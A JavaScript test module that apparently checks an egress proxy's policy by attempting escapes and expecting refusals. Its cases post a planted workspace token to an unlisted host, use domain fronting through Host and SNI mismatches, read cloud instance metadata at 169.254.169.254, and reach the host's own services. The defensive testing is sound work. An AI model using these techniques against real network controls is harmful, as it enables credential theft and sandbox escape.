// Through the one door there is, to where it must not lead.
import { lookup } from 'node:dns/promises';
import { anyOf, held } from './contact.mjs';
import { direct, forwarded, tunnelled } from './via-proxy.mjs';

const group = 'policy';
const honest = (host, port = 443) => ({ target: `${host}:${port}`, sni: host, host });

export const POLICY = [
  {
    id: 'unlisted-host',
    group,
    tries: 'ask the proxy for a host that is not allowed: CONNECT and plain HTTP',
    wanted: '403 host_not_allowed',
    refusal: 'host_not_allowed',
    control: 'must',
    canary: 'unlisted',
    attempt: (t) =>
      anyOf([
        ['CONNECT', () => tunnelled(t, honest(t.unlistedHost))],
        ['HTTP', () => forwarded(t, { url: `http://${t.unlistedHost}/` })],
      ]),
  },
  {
    id: 'token-exfiltration',
    group,
    tries: 'post a token found in the workspace to a host that is not allowed: body, query, header',
    wanted: '403 host_not_allowed',
    refusal: 'host_not_allowed',
    control: 'must',
    canary: 'unlisted',
    attempt: (t) => {
      const to = honest(t.unlistedHost);
      const url = `http://${t.unlistedHost}/?q=${t.plantedToken}`;
      return anyOf([
        ['body', () => tunnelled(t, { ...to, method: 'POST', body: t.plantedToken })],
        ['query', () => forwarded(t, { url })],
        ['header', () => forwarded(t, { url, headers: { 'x-token': t.plantedToken } })],
      ]);
    },
  },
  {
    id: 'unlisted-port',
    group,
    tries: 'ask the proxy for an allowed host on a port that is not',
    wanted: '403 port_not_allowed',
    refusal: 'port_not_allowed',
    control: 'must',
    canary: 'unlisted',
    attempt: (t) => tunnelled(t, honest(t.allowedHost, 8443)),
  },
  {
    id: 'domain-fronting',
    group,
    tries: 'CONNECT to an allowed host and name another in Host, or in SNI',
    wanted: '403 host_mismatch',
    refusal: 'host_mismatch',
    control: 'must',
    attempt: (t) =>
      anyOf([
        ['Host', () => tunnelled(t, { ...honest(t.allowedHost), host: t.unlistedHost })],
        ['SNI', () => tunnelled(t, { ...honest(t.allowedHost), sni: t.unlistedHost })],
        ['both', () => tunnelled(t, { ...honest(t.allowedHost), sni: t.unlistedHost, host: t.unlistedHost })],
      ]),
  },
  {
    id: 'captured-wrong-name',
    group,
    tries: 'connect to the address of an allowed name without the proxy and name another host',
    wanted: 'refused',
    control: 'must',
    canary: 'unlisted',
    attempt: async (t) => {
      // On the host, where the name does not resolve, the control says where.
      const to = t.captureAt ?? { host: (await lookup(t.allowedHost, { family: 4 })).address, port: 443 };
      return anyOf([
        ['SNI and Host', () => direct(to, { sni: t.unlistedHost, host: t.unlistedHost })],
        ['Host', () => direct(to, { sni: t.allowedHost, host: t.unlistedHost })],
      ]);
    },
  },
  {
    id: 'captured-guess',
    group,
    tries: 'guess captured addresses that no name was given',
    wanted: 'refused',
    control: 'none',
    attempt: (t) =>
      anyOf(
        ['127.66.255.254', '127.66.0.0', '127.0.0.2', '127.255.255.254'].map((host) => [
          host,
          () => direct({ host, port: 443 }, { sni: t.unlistedHost, host: t.unlistedHost }),
        ]),
      ),
  },
  {
    id: 'host-by-proxy',
    group,
    tries: "reach the host's own services through the proxy, by every spelling of its address",
    wanted: '403',
    refusal: '403',
    control: 'must',
    canary: 'tcp',
    attempt: (t) =>
      anyOf(
        t.hostSpellings.flatMap((host) => [
          [
            `CONNECT ${host}`,
            () => tunnelled(t, { target: `${host}:${t.hostPort}`, sni: 'localhost', host }),
          ],
          [`HTTP ${host}`, () => forwarded(t, { url: `http://${host}:${t.hostPort}/` })],
        ]),
      ),
  },
  {
    id: 'metadata-by-proxy',
    group,
    tries: 'read instance credentials through the proxy',
    wanted: '403',
    refusal: '403',
    control: 'must',
    canary: 'unlisted',
    attempt: (t) => forwarded(t, { url: 'http://169.254.169.254/latest/meta-data/' }),
  },
  {
    id: 'private-name',
    group,
    tries: "reach the host through an allowed name that resolves to the host's own address",
    wanted: '403 private_address',
    refusal: 'private_address',
    control: 'must',
    canary: 'tcp',
    attempt: (t) => forwarded(t, { url: `http://${t.privateName}:${t.hostPort}/` }),
  },
  {
    id: 'credential-overwrite',
    group,
    tries: 'use the injected credential for what the script itself put into the header',
    wanted: 'stripped: the upstream sees the one credential only',
    control: 'none',
    attempt: async (t) => {
      const headers = { authorization: 'Bearer of-the-script', 'x-api-key': 'of-the-script' };
      const outcome = await tunnelled(t, { ...honest(t.allowedHost), path: '/whoami', headers });
      if (!outcome.through) throw new Error(`not answered: ${outcome.saw}`);
      // The upstream answers which credentials reached it.
      const { foreign } = JSON.parse(outcome.body);
      return foreign === 0
        ? held('stripped')
        : { through: true, saw: `${foreign} of the script's own arrived` };
    },
  },
];

/** The one request that must succeed: the credential is put in outside; the script holds a placeholder. */
export async function allowedRequest(t) {
  const ways = [
    ['through the proxy', () => tunnelled(t, { ...honest(t.allowedHost), path: '/whoami' })],
    [
      'by name alone, captured',
      async () => {
        const { address } = await lookup(t.allowedHost, { family: 4 });
        return direct(
          { host: address, port: 443 },
          { sni: t.allowedHost, host: t.allowedHost, path: '/whoami' },
        );
      },
    ],
    [
      "by Node's own fetch",
      async () => {
        const answer = await fetch(`https://${t.allowedHost}/whoami`);
        return { through: answer.ok, saw: String(answer.status), body: await answer.text() };
      },
    ],
  ];
  const results = [];
  for (const [way, request] of ways) {
    const outcome = await request().catch((error) => held(error.cause?.code ?? error.code ?? error.message));
    const authorized = outcome.through && JSON.parse(outcome.body).authorized === true;
    results.push({
      way,
      ok: authorized,
      saw: outcome.through ? `200, ${authorized ? 'authorized' : 'no credential'}` : outcome.saw,
    });
  }
  return { placeholder: process.env[t.tokenVariable] ?? 'not set', results };
}
